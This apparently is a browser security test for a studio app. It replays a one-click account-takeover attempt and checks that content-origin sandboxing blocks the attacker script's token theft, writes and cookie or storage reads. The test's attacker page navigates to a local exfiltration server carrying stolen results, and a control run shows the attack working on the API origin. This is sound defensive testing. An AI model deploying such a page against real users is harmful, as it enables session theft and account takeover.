// The one-click takeover of issue 10, played end to end in real Chromium against the real studio (wrangler dev):
// a victim signed in on the dashboard opens a link an attacker sent them, to the attacker's own composition.
// Its script tries to read and write as the victim (token, projects, files, rotation, form posts, cookies,
// storage, the victim's own pages) and reports by navigating to the attacker's server. It must get nothing:
// the page runs on the content origin, sandboxed into an opaque origin, with no cookie and no way to the API.
//
// A control runs the same script on the API origin, where it *does* read the victim's token: so every
// "blocked" below is the isolation at work, not a script that never worked.
import { readFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freePort, launchBrowser } from "./harness.ts";
import { sharedStudio } from "../node/shared-studio.ts";

const ATTACK_SOURCE = readFileSync(join(import.meta.dirname, "attack-page.js"), "utf8");

interface Received {
  method: string;
  url: string;
  referer: string | undefined;
  body: string;
}

const env = sharedStudio();
let browser: Browser;
let victim: BrowserContext;
let dashboard: Page;
let exfil: Server;
let exfilUrl = "";
let received: Received[] = [];

let api = "";
let content = "";

function startExfilServer(port: number): Promise<Server> {
  return new Promise((resolve) => {
    const server = createServer({ maxHeaderSize: 1 << 20 }, (req: IncomingMessage, res) => {
      let body = "";
      req.on("data", (chunk: Buffer) => (body += chunk.toString()));
      req.on("end", () => {
        received.push({ method: req.method ?? "", url: req.url ?? "", referer: req.headers.referer, body });
        res.writeHead(200, { "Content-Type": "text/plain", "Access-Control-Allow-Origin": "*" }).end("thanks");
      });
    });
    server.listen(port, "127.0.0.1", () => resolve(server));
  });
}

async function call<T>(token: string, method: string, path: string, body?: unknown): Promise<{ status: number; body: T }> {
  const headers: Record<string, string> = { Authorization: `Bearer ${token}` };
  if (body !== undefined) headers["Content-Type"] = "application/json";
  const res = await fetch(`${api}${path}`, { method, headers, body: body === undefined ? undefined : JSON.stringify(body) });
  return { status: res.status, body: (await res.json().catch(() => null)) as T };
}

beforeAll(async () => {
  api = env.url;
  content = env.contentUrl;
  const port = await freePort();
  exfil = await startExfilServer(port);
  exfilUrl = `http://127.0.0.1:${port}`;
  browser = await launchBrowser();
  victim = await browser.newContext({ viewport: { width: 1100, height: 800 } });
  dashboard = await victim.newPage();
}, 240_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => (exfil ? exfil.close(resolve) : resolve(undefined)));
});

describe("a victim signed in on the dashboard opens an attacker's link", () => {
  it("gives the attacker's script nothing: no token, no data, no writes, no cookies, no storage", async () => {
    // The victim signs in on the dashboard (session cookie on the API origin) and has a secret project.
    await dashboard.goto(`${api}/`);
    await dashboard.getByLabel("Development sign-in: your name").fill("Victoria Victim");
    await dashboard.getByRole("button", { name: "Sign in" }).click();
    await dashboard.getByRole("heading", { name: "Welcome, Victoria Victim" }).waitFor();
    const tokenEl = dashboard.getByTestId("token");
    await expect.poll(() => tokenEl.getAttribute("data-token")).toMatch(/^stu_/);
    const victimToken = (await tokenEl.getAttribute("data-token")) ?? "";
    const session = (await victim.cookies(api)).find((c) => c.name === "studio_session");
    expect(session?.httpOnly).toBe(true);
    const me = await call<{ user: { id: string } }>(victimToken, "GET", "/api/me");
    const marker = "VICTIM-SECRET-MARKER-7F3A";
    expect((await call(victimToken, "POST", "/api/projects", { name: "Secret Plans", files: { "secret.txt": marker } })).status).toBe(201);

    // The attacker, with an account of their own, publishes a composition carrying the attack and shares it.
    const login = await fetch(`${api}/auth/dev/login`, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ name: "Mallory" }) });
    const attackerToken = ((await login.json()) as { token: string }).token;
    const cfg = { api, content, exfil: exfilUrl, victimSlug: "secret-plans" };
    const html = `<!doctype html><html><head><meta charset="utf-8"><script src="attack.js"></script></head><body>
<div id="root" data-composition-id="free-game" data-width="640" data-height="360" data-start="0" data-duration="2"><h1>Free game!</h1></div>
<script>
  window.__timelines = window.__timelines || {};
  studioAttack(${JSON.stringify({ ...cfg, writes: true })}).then(function (results) {
    location.href = ${JSON.stringify(exfilUrl)} + "/report?r=" + encodeURIComponent(JSON.stringify(results));
  });
</script></body></html>`;
    expect((await call(attackerToken, "POST", "/api/projects", { name: "Free Game", html, files: { "attack.js": ATTACK_SOURCE } })).status).toBe(201);
    const share = await call<{ url: string }>(attackerToken, "POST", "/api/projects/free-game/share", {});
    expect(share.body.url.startsWith(`${content}/c/`)).toBe(true);

    // Control: the same script on the API origin, next to the victim's cookie, reads the token.
    const control = await dashboard.evaluate(`${ATTACK_SOURCE}; studioAttack(${JSON.stringify({ ...cfg, writes: false })})`) as Record<string, string>;
    expect(control.origin).toBe(api);
    expect(control["read-me"]).toContain(victimToken);
    expect(control["read-victim-file"]).toContain(marker);

    // The victim clicks the link.
    received = [];
    const tab = await victim.newPage();
    await tab.goto(share.body.url);
    await expect.poll(() => received.some((r) => r.url.startsWith("/report?")), { timeout: 60_000, interval: 250 }).toBe(true);
    const report = received.find((r) => r.url.startsWith("/report?"))!;
    const results = JSON.parse(new URL(report.url, exfilUrl).searchParams.get("r") ?? "{}") as Record<string, string>;

    // The script ran every step (so nothing below passes by accident) in an origin of its own.
    expect(Object.keys(results).sort()).toEqual(
      [...Object.keys(control), "create-project", "create-project-no-cors", "delete-victim-project", "rotate-token", "form-post"].sort(),
    );
    expect(results.origin).toBe("null");
    // Every read and write over the network failed outright; browser state is out of reach.
    const mustFail = [
      "read-me", "read-me-relative", "read-health", "read-projects", "read-victim-project", "read-victim-file", "xhr-me",
      "content-api-me", "content-play-victim", "api-play-victim", "api-play-victim-manual",
      "cookie", "local-storage", "session-storage", "indexed-db", "cache-storage",
      "create-project", "create-project-no-cors", "delete-victim-project", "rotate-token",
      "exfil-fetch", "exfil-image", "exfil-websocket",
    ];
    for (const name of mustFail) expect(results[name], `${name}: ${results[name]}`).toMatch(/^blocked: /);
    expect(results.popup).toBe("got: null");
    // Nothing of the victim's is anywhere in what reached the attacker, and only the navigation got out.
    const everything = JSON.stringify(received);
    for (const secret of [victimToken, session!.value, me.body.user.id, marker, "Victoria"]) expect(everything).not.toContain(secret);
    expect(received.filter((r) => !r.url.startsWith("/report?") && r.url !== "/favicon.ico")).toEqual([]);
    // The capability link did not leak through the Referer either.
    expect(report.referer).toBeUndefined();

    // The victim's account is as it was: same token, same projects, same file, still signed in.
    expect((await call<{ token: string }>(victimToken, "GET", "/api/me")).body.token).toBe(victimToken);
    const projects = await call<{ projects: { name: string }[] }>(victimToken, "GET", "/api/projects");
    expect(projects.body.projects.map((p) => p.name)).toEqual(["secret-plans"]);
    expect(await (await fetch(`${api}/api/projects/secret-plans/files/secret.txt`, { headers: { Authorization: `Bearer ${victimToken}` } })).text()).toBe(marker);
    expect((await call<{ projects: { name: string }[] }>(attackerToken, "GET", "/api/projects")).body.projects.map((p) => p.name)).toEqual(["free-game"]);
    await dashboard.reload();
    await dashboard.getByRole("heading", { name: "Welcome, Victoria Victim" }).waitFor();
    // And the content origin never set a cookie in the victim's browser.
    expect(await victim.cookies(content)).toEqual([]);
  }, 180_000);
});
